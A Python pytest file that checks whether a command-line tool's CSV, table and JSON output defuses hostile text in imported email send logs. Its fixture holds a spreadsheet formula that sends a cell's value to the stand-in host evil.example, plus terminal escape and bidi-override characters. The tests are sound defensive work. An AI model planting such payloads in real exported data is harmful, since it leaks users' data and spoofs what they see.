"""Hostile send-log text printed by the CLI: no terminal escape, markup or formula survives."""

import csv
import io
import json
from pathlib import Path

import pytest

from acuse.output import json_text
from config.text_safety import escape_unsafe, spreadsheet_cell
from tests import test_cli
from tests.test_cli import Run

# The command-line fixtures of test_cli: a runner and a configuration.
run = test_cli.run
config = test_cli.config

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CLIENT = "Ana \x1b[31mRoja\x1b[0m\x07 Pérez"
NEGOCIO = "[/]1042[bold]"
RECIPIENT = "a\u202e1@correo.example"
SEND_LOG = (
    "\ufeffInforme notificaciones cartera (E-mail)\r\n"
    "Proyecto: Torres del Parque Etapa 2\r\n"
    "Rango de fechas: 01/11/2026 - 04/11/2026\r\n"
    "Notificación enviada;Negocio;Inmueble;Cliente;Correo cliente;Correo certificado Lleida;"
    "Fecha de envío;Asunto\r\n"
    f"Estado de cuenta;{NEGOCIO};Torre A - 1203;{CLIENT};{RECIPIENT};Sí;03/11/2026 10:00;"
    f'"{FORMULA.replace(chr(34), chr(34) * 2)}"\r\n'
)


@pytest.fixture
def hostile(run: Run, config: Path, tmp_path: Path) -> Path:
    """A configuration whose database contains one send with hostile text in every cell."""
    path = tmp_path / "envios.csv"
    path.write_text(SEND_LOG, encoding="utf-8")

    outcome = run("--config", str(config), "import-sends", str(path), "--project", "TDP2")

    assert outcome.code == 0, outcome.stderr
    return config


def test_csv_defuses_formula(run: Run, hostile: Path) -> None:
    outcome = run("--config", str(hostile), "sends", "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(outcome.stdout)))
    assert outcome.code == 0
    assert rows[0]["subject"] == "'" + FORMULA


def test_csv_escapes_controls(run: Run, hostile: Path) -> None:
    outcome = run("--config", str(hostile), "sends", "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(outcome.stdout)))
    assert "\x1b" not in outcome.stdout
    assert "\x07" not in outcome.stdout
    assert "\u202e" not in outcome.stdout
    assert rows[0]["client"] == "Ana \\x1b[31mRoja\\x1b[0m\\x07 Pérez"
    assert rows[0]["recipient"] == "a\\u202e1@correo.example"


def test_table_shows_escapes(run: Run, hostile: Path) -> None:
    outcome = run("--config", str(hostile), "sends", "--format", "table")

    assert outcome.code == 0, outcome.stderr
    assert "\x1b" not in outcome.stdout
    assert "\x07" not in outcome.stdout
    assert "\u202e" not in outcome.stdout
    assert "\\x1b[31mRoja" in outcome.stdout
    assert "a\\u202e1@correo.example" in outcome.stdout


def test_table_prints_markup_literally(run: Run, hostile: Path) -> None:
    outcome = run("--config", str(hostile), "sends", "--format", "table")

    assert outcome.code == 0, outcome.stderr
    assert NEGOCIO in outcome.stdout


def test_show_escapes_controls(run: Run, hostile: Path) -> None:
    listing = json.loads(run("--config", str(hostile), "sends", "--format", "json").stdout)

    outcome = run("--config", str(hostile), "show", str(listing[0]["send_id"]))

    assert outcome.code == 0, outcome.stderr
    assert "\x1b" not in outcome.stdout
    assert "\u202e" not in outcome.stdout
    assert "\\x1b[31mRoja" in outcome.stdout


def test_json_keeps_values(run: Run, hostile: Path) -> None:
    outcome = run("--config", str(hostile), "sends", "--format", "json")

    rows = json.loads(outcome.stdout)
    assert "\u202e" not in outcome.stdout
    assert "\x1b" not in outcome.stdout
    assert rows[0]["client"] == CLIENT
    assert rows[0]["recipient"] == RECIPIENT
    assert rows[0]["subject"] == FORMULA


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_prefixes_defused(prefix: str) -> None:
    cell = spreadsheet_cell(prefix + "1+1")

    assert cell.startswith("'")


def test_plain_cells_unchanged() -> None:
    assert spreadsheet_cell("Torre A - 1203") == "Torre A - 1203"
    assert spreadsheet_cell(1042) == 1042
    assert spreadsheet_cell(None) is None


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x00", "\\x00"),
        ("\x7f", "\\x7f"),
        ("\x9b", "\\x9b"),
        ("\u200f", "\\u200f"),
        ("\u2066", "\\u2066"),
        ("\u2028", "\\u2028"),
        ("línea\n", "línea\\x0a"),
    ],
)
def test_unsafe_characters_escaped(text: str, shown: str) -> None:
    assert escape_unsafe(text) == shown


def test_json_text_stays_valid() -> None:
    value = [{"subject": "a\u202eb\x85c\x1bd\ne"}]

    text = json_text(value)

    assert json.loads(text) == value
    assert "\u202e" not in text
    assert "\x85" not in text
